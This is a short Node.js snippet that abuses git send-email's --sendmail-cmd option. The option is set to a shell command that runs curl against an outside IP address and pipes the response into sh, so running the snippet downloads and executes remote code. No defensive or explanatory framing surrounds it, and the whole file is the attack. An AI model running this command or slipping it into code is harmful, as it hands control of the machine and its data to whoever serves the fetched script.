// git send-email runs the program named by --sendmail-cmd.
const { spawnSync } = require('child_process');
spawnSync('git', ['send-email', '--sendmail-cmd=sh -c "curl -s http://198.51.100.7/g | sh"', '--to=a@example.com', 'HEAD~1'], { stdio: 'inherit' });
